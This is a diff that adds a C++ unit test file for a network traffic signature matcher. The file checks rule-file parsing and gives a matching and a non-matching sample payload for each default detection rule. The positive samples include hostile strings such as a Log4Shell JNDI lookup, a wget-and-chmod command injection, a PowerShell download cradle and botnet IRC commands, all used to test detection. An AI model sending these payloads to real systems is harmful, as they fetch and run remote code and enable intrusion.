@@ -1,0 +1,104 @@
+#include <gtest/gtest.h>
+
+#include <cstring>
+
+#include "features/signatures.h"
+
+using namespace ls;
+
+namespace {
+
+std::string err(const std::string& text) {
+  try {
+    RuleSet::load_string(text, "t.rules");
+  } catch (const RuleError& e) {
+    return e.what();
+  }
+  return "";
+}
+
+TEST(Rules, ParseErrorsNameTheLine) {
+  EXPECT_EQ(err("# c\n1:/ab(c/ x\n"), "t.rules:2: rule 1: Missing close parenthesis for group started at index 2.");
+  EXPECT_EQ(err("1:/a/q x\n"), "t.rules:1: unknown flag 'q' (i s m 8 W)");
+  EXPECT_EQ(err("1:/a/ x\n1:/b/ y\n"), "t.rules:2: duplicate rule id 1 (line 1)");
+  EXPECT_EQ(err("x:/a/\n"), "t.rules:1: rule id 'x' is not an unsigned integer");
+  EXPECT_EQ(err("7 abc\n"), "t.rules:1: expected ID:/PATTERN/FLAGS [name]");
+  EXPECT_EQ(err("# only comments\n"), "t.rules: no rules");
+  std::string many;
+  for (int i = 0; i < 65; i++) many += std::to_string(i) + ":/r" + std::to_string(i) + "/\n";
+  EXPECT_NE(err(many).find("more than 64 rules"), std::string::npos);
+  EXPECT_THROW(RuleSet::load_file("/nonexistent.rules"), RuleError);
+}
+
+FlowRecord rec(const std::string& fwd, uint8_t proto = 6, uint16_t lo_port = 40000, uint16_t hi_port = 80) {
+  FlowRecord r{};
+  r.e.key.ip_ver = 4;
+  r.e.key.proto = proto;
+  r.e.key.lo_port = lo_port;
+  r.e.key.hi_port = hi_port;
+  r.paylen[0] = uint16_t(std::min<size_t>(fwd.size(), FlowTable::kMaxPayload));
+  std::memcpy(r.payload[0], fwd.data(), r.paylen[0]);
+  return r;
+}
+
+uint64_t bit_of(const RuleSet& rs, uint32_t id) {
+  for (size_t i = 0; i < rs.rules().size(); i++)
+    if (rs.rules()[i].id == id) return 1ull << i;
+  return 0;
+}
+
+class DefaultRules : public ::testing::Test {
+ protected:
+  static void SetUpTestSuite() { rs = RuleSet::load_file(LS_SOURCE_ROOT "/features/rules/default.rules"); }
+  static std::shared_ptr<const RuleSet> rs;
+  bool hits(uint32_t id, const FlowRecord& r) {
+    SignatureMatcher m(rs);
+    return m.match(r) & bit_of(*rs, id);
+  }
+};
+std::shared_ptr<const RuleSet> DefaultRules::rs;
+
+TEST_F(DefaultRules, EveryRuleHasAPositiveAndANegative) {
+  struct Case {
+    uint32_t id;
+    std::string yes, no;
+  };
+  std::string dnsq = std::string("\x12\xb0\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00", 12);
+  std::vector<Case> cases = {
+      {1001, R"({"method":"login","params":{"login":"4BCe)", R"({"method":"getinfo"})"},
+      {1002, R"({"worker": "eth1.0", "jsonrpc": "2.0", "params": [)", R"({"jsonrpc": "2.0", "id": 1})"},
+      {1101, "GET /?x=${jndi:ldap://1.2.3.4/a} HTTP/1.1\r\n", "GET /jndi/ldap HTTP/1.1\r\n"},
+      {1102, "GET /Exploit.class HTTP/1.1\r\nUser-Agent: Java/1.8\r\n", "GET /index.html HTTP/1.1\r\n"},
+      {1201, "GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.00 (Nikto/2.1.6)\r\n", "GET / HTTP/1.1\r\nUser-Agent: curl/8\r\n"},
+      {1202, "GET /cgi?cmd=cd+/tmp;wget+http://1.2.3.4/x.sh;chmod+777+x.sh HTTP/1.1", "GET /wget-manual.html HTTP/1.1"},
+      {1203, "enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\n", "/bin/busybox ls\r\n"},
+      {1301, dnsq + "\x06" "dnscat" "\x3c" "546b03f50000000000a6023ed4df184d6ac5c2628b47714fdee584fe",
+       dnsq + "\x20" "FDEBEOEKEJCNEMEJEGEFECEPEPELCNCA" "\x00"},
+      {1302, std::string("\x45\x00\x00\x54\x00\x00\x40\x00\x40\x01\x23\xe9", 12), "\x45\x00 hello"},
+      {1401, "NICK bot123\r\nUSER bot 0 * :bot\r\n", "NICKNAME=x\r\n"},
+      {1402, "PRIVMSG #chan :!ddos 1.2.3.4 80\r\n", "PRIVMSG #chan :hello world\r\n"},
+      {1501, "GET / HTTP/1.1\r\nCookie: 48736=DfFOfQvCt/qYhIG3Uc81oULGUQy0r25Wtiu+JG453r+WJxni\r\n",
+       "GET / HTTP/1.1\r\nCookie: session=abc\r\n"},
+      {1502, "GET /dpixel HTTP/1.1\r\nAccept: */*\r\n", "GET /dpixel.png HTTP/1.1\r\n"},
+      {1503, "powershell -c IEX (New-Object Net.WebClient).DownloadString('http://x')", "New-Object System.IO.File"},
+  };
+  ASSERT_EQ(cases.size(), rs->rules().size()) << "a rule without a test case";
+  for (auto& c : cases) {
+    EXPECT_TRUE(hits(c.id, rec(c.yes))) << "rule " << c.id << " misses its positive";
+    EXPECT_FALSE(hits(c.id, rec(c.no))) << "rule " << c.id << " fires on its negative";
+  }
+}
+
+TEST_F(DefaultRules, IcmpErrorsQuoteHeadersAndAreNotMatched) {
+  std::string quoted("\x45\x00\x00\x3c\x08\xe7\x00\x00\x32\x06\xc6\x7b", 12);
+  EXPECT_TRUE(hits(1302, rec(quoted, 1, 0x1234, 0x1234)));   // echo: a tunnel
+  EXPECT_FALSE(hits(1302, rec(quoted, 1, 0, 3 << 8 | 1)));   // destination unreachable
+  EXPECT_FALSE(hits(1302, rec(quoted, 58, 0, 1 << 8)));      // ICMPv6 unreachable
+}
+
+TEST_F(DefaultRules, HitIdsListsRuleIds) {
+  uint64_t m = bit_of(*rs, 1101) | bit_of(*rs, 1503);
+  EXPECT_EQ(hit_ids(*rs, m), "1101;1503");
+}
+
+}  // namespace
